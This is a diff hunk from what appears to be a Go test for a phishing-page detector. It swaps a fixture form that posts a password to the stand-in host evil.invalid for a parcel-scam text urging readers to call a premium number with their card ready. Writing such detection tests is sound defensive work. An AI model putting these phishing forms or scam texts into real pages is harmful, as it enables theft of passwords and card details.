@@ -32,7 +32,7 @@ func alone(t *testing.T, page string, flags ...string) (*site, *walk) {
 func TestTheNightAPhishingPage(t *testing.T) {
 	t.Parallel()
 	s, w := alone(t, `<!doctype html>
-<form action="https://evil.invalid/"><input name=password></form>
+<h1>Your parcel waits</h1><p>Call 0900 123 456 and have your card ready.
 `)
 	w.names = append(w.names, "R-7K3M-9Q2D", s.report(t))
 	w.run(t, "A phishing page")
